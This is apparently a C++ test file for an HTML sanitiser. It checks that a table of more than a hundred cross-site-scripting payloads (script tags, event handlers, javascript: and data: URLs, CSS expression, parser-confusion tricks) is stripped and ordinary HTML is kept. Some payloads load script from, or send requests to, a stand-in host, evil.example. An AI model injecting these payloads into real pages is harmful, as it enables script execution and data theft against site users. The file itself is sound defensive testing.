// The sanitiser: what stays, what goes, and a table of ways to smuggle a script past a filter.
#include "html/sanitise.h"

#include <doctest/doctest.h>

#include "base/text.h"
#include "html/entities.h"

namespace kbuild::html {

namespace {

std::string clean(std::string_view html) {
  return sanitise_html(html).html;
}

/// A browser's view of sanitised HTML: no tag, attribute, URL or style that can run anything.
std::string find_danger(std::string_view html) {
  HtmlTokeniser tokens(html);
  for (HtmlToken token; tokens.next(token);) {
    if (token.kind == HtmlKind::comment || token.kind == HtmlKind::other)
      return std::string(token.raw);
    for (std::string_view name :
         {"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button",
          "base", "meta", "link", "frame", "frameset", "template", "applet"})
      if (token.name == name) return token.name;
    for (const HtmlAttribute& attribute : token.attributes) {
      std::string value;
      for (char c : base::to_lower(attribute.value))
        if (static_cast<unsigned char>(c) > ' ') value += c;
      if (attribute.name.starts_with("on") || attribute.name == "srcdoc" ||
          attribute.name == "formaction")
        return attribute.name;
      for (std::string_view word :
           {"javascript:", "vbscript:", "data:", "expression", "url(", "behavior", "binding"})
        if (attribute.name != "title" && attribute.name != "alt" && value.find(word) != value.npos)
          return attribute.name + '=' + attribute.value;
    }
  }
  return {};
}

constexpr std::string_view kAttacks[] = {
    // Scripts as elements.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT\t>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script><!-- </script> --><script>alert(1)</script>",
    "<p><script><p>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x "
    "onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img src=\"</noembed><iframe onload=alert(1)>\"></noembed>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<style><img title=\"</style><img src=x onerror=alert(1)>\"></style>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zy8+\" type=image/svg+xml>",
    "<applet code=Evil archive=evil.jar></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>alert(1)</script>\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example/x.js></layer>",
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    // Event handlers.
    "<b onclick=alert(1)>x</b>",
    "<b ONCLICK=alert(1)>x</b>",
    "<b onclick = 'alert(1)'>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<b\nonclick\n=\nalert(1)\n>x</b>",
    "<b\fonclick=alert(1)>x</b>",
    "<b class=x onclick=alert(1)>x</b>",
    "<b class=\"x\"onclick=alert(1)>x</b>",
    "<b class='x'onclick=\"alert(1)\">x</b>",
    "<b a=\"b\" / onclick=alert(1)>x</b>",
    "<b ==onclick=alert(1) onclick=alert(2)>x</b>",
    "<b \"onclick=alert(1) \"=x onclick=alert(1)>x</b>",
    "<b `onclick=alert(1)` onclick=`alert(1)`>x</b>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"",
    "<img src='x' onerror='alert(1)'//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=x:x onerror=&#97;lert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onloadstart=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<div onpointerenter=alert(1) style=width:100%>x</div>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<p\tonwheel=alert(1)>x</p>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    // URLs.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\r\nscript:alert(1)\">x</a>",
    "<a href=\"javascript\t:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#X6Aavascript:alert(1)\">x</a>",
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java&#0;script:alert(1)\">x</a>",
    "<a href=\"java&shy;script:alert(1)\">x</a>",
    "<a href=\"java\xE2\x80\x8Bscript:alert(1)\">x</a>",
    "<a href=\"&#x20;&#14; javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"livescript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"DATA:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"jar:javascript:alert(1)!\">x</a>",
    "<a href=\"blob:javascript:alert(1)\">x</a>",
    "<a href=\"\\javascript:alert(1)\">x</a>",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<video poster=javascript:alert(1)></video>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=\"javascript:alert(1)\">x</q>",
    "<a href='javascript:alert(1)' href='https://ok.example'>x</a>",
    "<a ping=javascript:alert(1) href=x>x</a>",
    // Styles.
    "<b style=\"width: expression(alert(1))\">x</b>",
    "<b style=\"width: e\\xpression(alert(1))\">x</b>",
    "<b style=\"width: e/**/xpression(alert(1))\">x</b>",
    "<b style=\"width: \xEF\xBD\x85xpression(alert(1))\">x</b>",
    "<b style=\"background: url(javascript:alert(1))\">x</b>",
    "<b style=\"background-image: url('//evil.example/log')\">x</b>",
    "<b style=\"background: u\\72l(javascript:alert(1))\">x</b>",
    "<b style=\"background: URL (javascript:alert(1))\">x</b>",
    "<b style=\"background:\nurl\n(x)\">x</b>",
    "<b style=\"-moz-binding: url(//evil.example/x.xml#y)\">x</b>",
    "<b style=\"behavior: url(x.htc)\">x</b>",
    "<b style=\"color: red; behaviour: url(x.htc)\">x</b>",
    "<b style=\"&#119;idth: &#101;xpression(alert(1))\">x</b>",
    "<b style=\"font-family: '</style><script>alert(1)</script>'\">x</b>",
    "<b style='list-style-image: url(javascript:alert(1))'>x</b>",
    "<b style=\"color: red;} @import 'javascript:alert(1)'; {\">x</b>",
    // Comments, declarations, broken tags.
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!-- -- ><img src=x onerror=alert(1)> -->",
    "<![if gte IE 4]><script>alert(1)</script><![endif]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<? foo=\"><script>alert(1)</script>\">",
    "<! foo=\"><script>alert(1)</script>\">",
    "</ foo=\"><script>alert(1)</script>\">",
    "<!doctype x [<!entity y '<script>alert(1)</script>'>]>&y;",
    "<a href=\"x\" title=\"a>b\" onclick=\"alert(1)\">x</a>",
    "<a title=\"&quot; onclick=&quot;alert(1)\">x</a>",
    "<b <script>alert(1)</script>>x</b>",
    "< img src=x onerror=alert(1)>",
    "<\xC2\xA0script>alert(1)</script>",
    "<b title='</b><script>alert(1)</script>'>x</b>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xC0\xBCscript\xC0\xBE"
    "alert(1)\xC0\xBC/script\xC0\xBE",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<p>&#60;img src=x onerror=alert(1)&#62;</p>",
};

}  // namespace

TEST_CASE("no attack survives, nor what is made of it when it is read again") {
  static_assert(std::size(kAttacks) >= 100);
  for (std::string_view attack : kAttacks) {
    CAPTURE(attack);
    std::string once = clean(attack);
    CAPTURE(once);
    CHECK(find_danger(once) == "");
    CHECK(clean(once) == once);
  }
}

TEST_CASE("the check for danger finds what it looks for") {
  CHECK(find_danger("<b onclick=x>") == "onclick");
  CHECK(find_danger("<a href='java&#115;cript:x'>") != "");
  CHECK(find_danger("<script>") == "script");
  CHECK(find_danger("<b style='width: expression(1)'>") != "");
  CHECK(find_danger("<a href='https://ok.example'>") == "");
}

TEST_CASE("ordinary HTML stays as it is") {
  for (std::string_view html :
       {"<p class=\"a b\" id=\"c\">x <b>y</b> &amp; z</p>",
        "<a href=\"https://a.example/x?y=1&amp;z=2#f\" title=\"t\">x</a>",
        "<a href=\"../x/y.md#z\">x</a>", "<a href=\"mailto:a@b.example\">x</a>",
        "<img src=\"img/x.png\" alt=\"x\" width=\"10\">",
        "<table><tr><th scope=\"row\" colspan=\"2\">x</th></tr></table>",
        "<details open=\"\"><summary>x</summary>y</details>",
        "<span style=\"color: red; margin-left: 2em;\">x</span>",
        "<ul><li>a<ul><li>b</li></ul></li></ul>", "a<br>b<hr>",
        "<video src=\"x.mp4\" controls=\"\"></video>",
        "<div data-unit=\"3\" aria-label=\"x\"></div>"}) {
    CHECK(clean(html) == html);
    CHECK(sanitise_html(html).dropped.empty());
  }
}

TEST_CASE("fragments come out balanced") {
  CHECK(clean("<b>x") == "<b>x</b>");
  CHECK(clean("x</b></div>") == "x");
  CHECK(clean("<b><i>x</b>y</i>") == "<b><i>x</i></b>y");
  CHECK(clean("<p>a<p>b") == "<p>a</p><p>b</p>");
  CHECK(clean("<p>a<div>b</div>") == "<p>a</p><div>b</div>");
  CHECK(clean("<ul><li>a<li>b</ul>c") == "<ul><li>a</li><li>b</li></ul>c");
  CHECK(clean("<dl><dt>a<dd>b<dt>c</dl>") == "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>");
  CHECK(clean("<table><tr><td>a<td>b<tr><td>c</table>") ==
        "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>");
  CHECK(clean("<table><tr><td></div>x</table>y") == "<table><tr><td>x</td></tr></table>y");
  CHECK(clean("<td>x</td>") == "x");
  CHECK(clean("<br/><img src=x /></br>") == "<br><img src=\"x\">");
}

TEST_CASE("what is dropped is named once each") {
  auto result = sanitise_html(
      "<form><b onclick=1 onclick=2>x</b><b onclick=3>y</b></form><script>z</script><!--c-->");
  CHECK(result.html == "<b>x</b><b>y</b>");
  CHECK(result.dropped ==
        std::vector<std::string>{"<form>", "onclick of <b>", "<script>", "comment"});
}

TEST_CASE("a single tag is written anew or refused") {
  CHECK(sanitise_tag("<DIV Class=x onclick=y>") == "<div class=\"x\">");
  CHECK(sanitise_tag("</DIV >") == "</div>");
  CHECK(sanitise_tag("<br/>") == "<br>");
  CHECK(sanitise_tag("</br>") == "");
  CHECK(sanitise_tag("<script>") == "");
  CHECK(sanitise_tag("<b>x") == "");
  CHECK(sanitise_tag("x") == "");
  CHECK(sanitise_tag("<b") == "");
  CHECK(sanitise_tag("<a href=x target=_blank>") ==
        "<a href=\"x\" target=\"_blank\" rel=\"noopener noreferrer\">");
}

TEST_CASE("a style keeps the declarations that are known and safe") {
  CHECK(sanitise_style("color: red; margin : 0 auto ") == "color: red; margin: 0 auto;");
  CHECK(sanitise_style("color; ; POSITION: Relative; :x") == "position: Relative;");
  CHECK(sanitise_style("position: fixed; width: expression(x()); color: blue") == "color: blue;");
  CHECK(sanitise_style("background: url(x)") == "");
}

TEST_CASE("character references are decoded as the place demands") {
  CHECK(decode_references("&auml;&#228;&#xE4;&amp;&nope;&", ReferenceRule::strict) ==
        "äää&&nope;&");
  CHECK(decode_references("&amp&#65&#x42 &lt &ltx &lt=", ReferenceRule::lenient) ==
        "&AB < &ltx &lt=");
  CHECK(decode_references("&amp&#65", ReferenceRule::strict) == "&amp&#65");
  CHECK(decode_references("&#0;&#xD800;&#99999999999;&#150;", ReferenceRule::strict) ==
        "\uFFFD\uFFFD\uFFFD–");
}

TEST_CASE("size and depth are bounded") {
  std::string deep;
  for (int i = 0; i < 100000; ++i) deep += "<div>";
  CHECK(clean(deep).size() < 2000);
  std::string unfinished;
  for (int i = 0; i < 100000; ++i) unfinished += "<b a='";
  CHECK(clean(unfinished).find("<b") == std::string::npos);
}

}  // namespace kbuild::html
